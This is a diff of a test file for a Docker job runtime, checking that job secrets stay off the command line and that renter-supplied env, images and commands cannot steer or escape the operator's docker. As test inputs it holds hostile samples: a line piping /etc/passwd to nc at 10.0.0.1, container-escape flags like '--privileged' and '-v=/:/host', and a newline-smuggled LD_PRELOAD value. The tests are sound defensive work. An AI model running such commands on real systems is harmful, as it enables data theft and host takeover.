@@ -5,16 +5,33 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { createDockerRuntime, dockerRunArgs } from '../../edge-agent/src/jobs/docker-runtime.ts';
 import type { JobSpec } from '../../edge-agent/src/jobs/runtime.ts';
 
-// No Docker engine runs here, so a stand-in `docker` on PATH records every call: its argv one
-// argument per line, and what the job's secret looked like in its environment. The assertions are
-// on the exact commands the runtime would run on a real host.
+// No Docker engine runs here, so a stand-in `docker` on PATH records every call: its argv (NUL
+// separated, so any byte of an argument survives), the env file it was handed (mode and text,
+// read as docker reads it: before it creates the container), and what the agent's own process
+// environment held. It creates the --cidfile as docker does once the file is read, and knows the
+// networks `network create` made. The assertions are on the exact commands a real host would run.
 
 const STAND_IN = `#!/bin/sh
 dir="$(dirname "$0")"
-{ for a in "$@"; do printf '%s\\n' "$a"; done; echo '---'; } >> "$dir/calls.log"
+printf '%s\\0' "$@" >> "$dir/calls.log"; printf '\\1\\0' >> "$dir/calls.log"
+prev=''; cid=''; envfile=''
+for a in "$@"; do
+  case "$prev" in --cidfile) cid="$a" ;; --env-file) envfile="$a" ;; esac
+  prev="$a"
+done
 case "$1" in
+  network)
+    eval "name=\\\${$#}"
+    if [ "$2" = create ]; then touch "$dir/network-$name"; exit 0; fi
+    [ -f "$dir/network-$name" ] || { echo "Error: network $name not found" >&2; exit 1; } ;;
   run)
-    printf 'env HF_TOKEN=%s\\n' "$HF_TOKEN" >> "$dir/env.log"
+    if [ -n "$envfile" ]; then
+      { stat -c 'dir %a' "$(dirname "$envfile")"; stat -c 'file %a' "$envfile"; cat "$envfile"; } > "$dir/envfile.log"
+    fi
+    for v in DOCKER_HOST DOCKER_CONTEXT LD_PRELOAD PATH HF_TOKEN; do
+      eval "printf '%s=%s\\n' $v \\"\\\${$v-<unset>}\\""
+    done > "$dir/cli-env.log"
+    [ -n "$cid" ] && printf 'c0ffee' > "$cid"
     echo "hello from the container"
     while [ ! -f "$dir/stopped" ] && [ -z "$FAKE_DOCKER_QUICK" ]; do sleep 0.05; done
     exit "\${FAKE_DOCKER_EXIT:-0}" ;;
@@ -55,49 +72,150 @@ const spec = (overrides: Partial<JobSpec> = {}): JobSpec => ({
 function calls(): string[][] {
   const text = existsSync(join(dir, 'calls.log')) ? readFileSync(join(dir, 'calls.log'), 'utf8') : '';
   return text
-    .split('---\n')
+    .split('\x01\0')
     .filter((c) => c.length > 0)
-    .map((c) => c.split('\n').filter((l, i, all) => i < all.length - 1 || l !== ''));
+    .map((c) => c.split('\0').slice(0, -1));
 }
 
+const runCall = () => calls().find((c) => c[0] === 'run')!;
+const flagValue = (argv: string[], flag: string) => argv[argv.indexOf(flag) + 1]!;
+const read = (name: string) => readFileSync(join(dir, name), 'utf8');
+
 describe('docker runtime', () => {
-  it('builds the docker run argv: name, label, GPUs, limits, env names only, image, command', () => {
-    expect(dockerRunArgs({ spec: spec(), gpuIndexes: [0, 1] }, { cpus: '8', memory: '32g' })).toEqual([
+  it('builds the docker run argv: name, label, GPUs, confinement, limits, network, env file, image, command', () => {
+    const files = { cidFile: '/private/cid', envFile: '/private/env' };
+    expect(dockerRunArgs({ spec: spec(), gpuIndexes: [0, 1] }, { cpus: '8', memoryMbPerGpu: 1024 }, files)).toEqual([
       'run', '--name', 'gridplane-job_abc123', '--label', 'gridplane.job=job_abc123', '--gpus', '"device=0,1"',
-      '--init', '--pull', 'missing', '--security-opt', 'no-new-privileges', '--pids-limit', '4096',
-      '--cpus', '8', '--memory', '32g', '--env', 'HF_TOKEN', '--env', 'WANDB_KEY',
+      '--init', '--pull', 'missing', '--cap-drop', 'ALL', '--security-opt', 'no-new-privileges', '--pids-limit', '4096',
+      '--memory', '2048m', '--memory-swap', '2048m', '--cpus', '8', '--network', 'gridplane-jobs',
+      '--cidfile', '/private/cid', '--env-file', '/private/env',
+      'ghcr.io/acme/train:1.2', 'python', 'train.py', '--epochs', '3',
+    ]);
+    // An operator's fixed limit and network; no env file when the job has no env.
+    expect(
+      dockerRunArgs({ spec: spec({ env: {} }), gpuIndexes: [2] }, { memory: '32g', pidsLimit: 512, network: 'none' }, { cidFile: '/p/cid', envFile: null }),
+    ).toEqual([
+      'run', '--name', 'gridplane-job_abc123', '--label', 'gridplane.job=job_abc123', '--gpus', '"device=2"',
+      '--init', '--pull', 'missing', '--cap-drop', 'ALL', '--security-opt', 'no-new-privileges', '--pids-limit', '512',
+      '--memory', '32g', '--memory-swap', '32g', '--network', 'none', '--cidfile', '/p/cid',
       'ghcr.io/acme/train:1.2', 'python', 'train.py', '--epochs', '3',
     ]);
   });
 
-  it('runs through the docker on PATH, keeps secrets off the argv, stops and cleans up', async () => {
-    const runtime = createDockerRuntime({ stopTimeoutS: 3 });
+  it('runs through the docker on PATH: the env goes in a private file, removed once docker has read it; stops and cleans up', async () => {
+    const runtime = createDockerRuntime({ stopTimeoutS: 3, memoryMbPerGpu: 1024 });
     const output: string[] = [];
     const job = await runtime.start({ spec: spec(), gpuIndexes: [1, 3], onOutput: (_s, c) => output.push(c) });
     await expect.poll(() => output.join(''), { timeout: 5000 }).toContain('hello from the container');
+    const envFile = flagValue(runCall(), '--env-file');
+    const cidFile = flagValue(runCall(), '--cidfile');
+    // Docker has created the container (the cidfile exists), so the values are gone from the disk
+    // while the container still runs.
+    await expect.poll(() => existsSync(envFile), { timeout: 5000 }).toBe(false);
+    expect(read('envfile.log')).toBe('dir 700\nfile 600\nHF_TOKEN=hf_topsecret_value\nWANDB_KEY=wandb-secret-2\n');
     await job.stop();
-    const status = await job.exited;
-    expect(status).toEqual({ exitCode: 0 });
+    expect(await job.exited).toEqual({ exitCode: 0 });
+    expect(existsSync(cidFile)).toBe(false);
 
     const all = calls();
-    expect(all.map((c) => c[0])).toEqual(['rm', 'run', 'stop', 'rm']);
-    expect(all[0]).toEqual(['rm', '-f', 'gridplane-job_abc123']);
-    expect(all[1]).toContain('"device=1,3"');
-    expect(all[2]).toEqual(['stop', '--time', '3', 'gridplane-job_abc123']);
-    expect(all[3]).toEqual(['rm', '-f', 'gridplane-job_abc123']);
-    // The value reached the docker process's environment, and no argv, label or name holds it.
-    expect(readFileSync(join(dir, 'env.log'), 'utf8')).toBe('env HF_TOKEN=hf_topsecret_value\n');
+    expect(all.map((c) => c.slice(0, 2).join(' '))).toEqual(['network inspect', 'network create', 'rm -f', 'run --name', 'stop --time', 'rm -f']);
+    expect(all[0]).toEqual(['network', 'inspect', 'gridplane-jobs']);
+    expect(all[1]).toEqual([
+      'network', 'create', '--driver', 'bridge', '--opt', 'com.docker.network.bridge.name=gp-jobs0',
+      '--opt', 'com.docker.network.bridge.enable_icc=false', '--label', 'gridplane.network=jobs', 'gridplane-jobs',
+    ]);
+    expect(all[2]).toEqual(['rm', '-f', 'gridplane-job_abc123']);
+    expect(all[3]).toContain('"device=1,3"');
+    expect(all[4]).toEqual(['stop', '--time', '3', 'gridplane-job_abc123']);
+    expect(all[5]).toEqual(['rm', '-f', 'gridplane-job_abc123']);
+    // No argv, label or name holds a value, and the agent's docker process never had them.
     const argvText = all.flat().join('\n');
     expect(argvText).not.toContain('hf_topsecret_value');
     expect(argvText).not.toContain('wandb-secret-2');
-    expect(all[1]!.filter((a) => a.startsWith('gridplane.job='))).toEqual(['gridplane.job=job_abc123']);
+    expect(read('cli-env.log')).toContain('HF_TOKEN=<unset>\n');
+    expect(all[3]!.filter((a) => a.startsWith('gridplane.job='))).toEqual(['gridplane.job=job_abc123']);
+
+    // The network is made once per agent run.
+    process.env.FAKE_DOCKER_QUICK = '1';
+    const again = await runtime.start({ spec: spec({ id: 'job_second' }), gpuIndexes: [0], onOutput: () => undefined });
+    await again.exited;
+    expect(calls().filter((c) => c[0] === 'network')).toHaveLength(2);
+  });
+
+  it('a job env naming DOCKER_HOST, DOCKER_CONTEXT, PATH or LD_PRELOAD reaches the container and does not steer the agent’s docker', async () => {
+    // A docker the renter would like the agent to run instead of the operator's.
+    const evil = mkdtempSync(join(tmpdir(), 'renter-bin-'));
+    writeFileSync(join(evil, 'docker'), `#!/bin/sh\ntouch "${join(evil, 'ran')}"\n`);
+    chmodSync(join(evil, 'docker'), 0o755);
+    try {
+      process.env.FAKE_DOCKER_QUICK = '1';
+      const env = { DOCKER_HOST: 'tcp://203.0.113.7:2375', DOCKER_CONTEXT: 'renter', PATH: evil, LD_PRELOAD: '/nonexistent/evil.so', HF_TOKEN: 'hf_topsecret_value' };
+      const runtime = createDockerRuntime({ network: 'none', memoryMbPerGpu: 1024 });
+      const job = await runtime.start({ spec: spec({ env }), gpuIndexes: [0], onOutput: () => undefined });
+      expect(await job.exited).toEqual({ exitCode: 0 });
+      // The operator's docker ran the job (it recorded the call), with the agent's own environment.
+      expect(runCall().slice(0, 3)).toEqual(['run', '--name', 'gridplane-job_abc123']);
+      expect(existsSync(join(evil, 'ran'))).toBe(false);
+      const unset = (name: string) => process.env[name] ?? '<unset>';
+      expect(read('cli-env.log')).toBe(
+        `DOCKER_HOST=${unset('DOCKER_HOST')}\nDOCKER_CONTEXT=${unset('DOCKER_CONTEXT')}\nLD_PRELOAD=${unset('LD_PRELOAD')}\nPATH=${process.env.PATH}\nHF_TOKEN=<unset>\n`,
+      );
+      // …and the container gets every one of them, exactly.
+      expect(read('envfile.log')).toBe(
+        `dir 700\nfile 600\nDOCKER_CONTEXT=renter\nDOCKER_HOST=tcp://203.0.113.7:2375\nHF_TOKEN=hf_topsecret_value\nLD_PRELOAD=/nonexistent/evil.so\nPATH=${evil}\n`,
+      );
+    } finally {
+      rmSync(evil, { recursive: true, force: true });
+    }
+  });
+
+  it('passes commands full of shell metacharacters and flag-like words as inert argv after the image', async () => {
+    process.env.FAKE_DOCKER_QUICK = '1';
+    const command = [
+      'sh', '-c', 'echo $HOME; cat /etc/passwd | nc 10.0.0.1 80 && $(id) `id` > /tmp/x 2>&1 &', '--privileged', '-v=/:/host',
+      '--network=host', "it's \"quoted\"", '*', '~', '', 'new\nline', '\\', '${IFS}',
+    ];
+    const runtime = createDockerRuntime({ network: 'none', memoryMbPerGpu: 1024 });
+    const job = await runtime.start({ spec: spec({ command, env: {} }), gpuIndexes: [0], onOutput: () => undefined });
+    await job.exited;
+    const argv = runCall();
+    const image = argv.indexOf('ghcr.io/acme/train:1.2');
+    expect(argv.slice(image + 1)).toEqual(command);
+    // Nothing the job chose appears before the image, where docker reads flags.
+    expect(argv.slice(0, image)).not.toContain('--privileged');
+    expect(argv.slice(0, image).some((a) => a.includes('/:/host') || a === '--network=host')).toBe(false);
+  });
+
+  it('refuses to run an image docker would read as a flag, or env that cannot pass as a file, and calls no docker', async () => {
+    const runtime = createDockerRuntime({ network: 'none', memoryMbPerGpu: 1024 });
+    for (const image of ['--privileged', '-v=/:/host', 'ubuntu --privileged']) {
+      await expect(runtime.start({ spec: spec({ image }), gpuIndexes: [0], onOutput: () => undefined })).rejects.toThrow(/^refused: image: must be a container image reference/);
+      expect(() => dockerRunArgs({ spec: spec({ image }), gpuIndexes: [0] }, {}, { cidFile: '/p/cid', envFile: null })).toThrow(/^refused: image/);
+    }
+    await expect(runtime.start({ spec: spec({ env: { 'A=B': 'x' } }), gpuIndexes: [0], onOutput: () => undefined })).rejects.toThrow(/^refused: env\.A=B: names are/);
+    await expect(runtime.start({ spec: spec({ env: { A: 'x\nLD_PRELOAD=/evil.so' } }), gpuIndexes: [0], onOutput: () => undefined })).rejects.toThrow(/^refused: env\.A: values are one line/);
+    expect(calls()).toEqual([]);
+  });
+
+  it('uses a network the operator named (after checking it exists), and never creates it', async () => {
+    process.env.FAKE_DOCKER_QUICK = '1';
+    const runtime = createDockerRuntime({ network: 'operator-net', memoryMbPerGpu: 1024 });
+    await expect(runtime.start({ spec: spec(), gpuIndexes: [0], onOutput: () => undefined })).rejects.toThrow(
+      'the job network "operator-net" does not exist: create it, or leave jobNetwork unset to use gridplane-jobs',
+    );
+    expect(calls()).toEqual([['network', 'inspect', 'operator-net']]);
+    writeFileSync(join(dir, 'network-operator-net'), '');
+    const job = await runtime.start({ spec: spec(), gpuIndexes: [0], onOutput: () => undefined });
+    await job.exited;
+    expect(flagValue(runCall(), '--network')).toBe('operator-net');
+    expect(calls().filter((c) => c[1] === 'create')).toEqual([]);
   });
 
   it('reports the container exit code, and docker failures as errors', async () => {
     process.env.FAKE_DOCKER_QUICK = '1';
     process.env.FAKE_DOCKER_EXIT = '3';
     try {
-      const runtime = createDockerRuntime();
+      const runtime = createDockerRuntime({ memoryMbPerGpu: 1024 });
       const failed = await runtime.start({ spec: spec(), gpuIndexes: [0], onOutput: () => undefined });
       expect(await failed.exited).toEqual({ exitCode: 3 });
       process.env.FAKE_DOCKER_EXIT = '125';
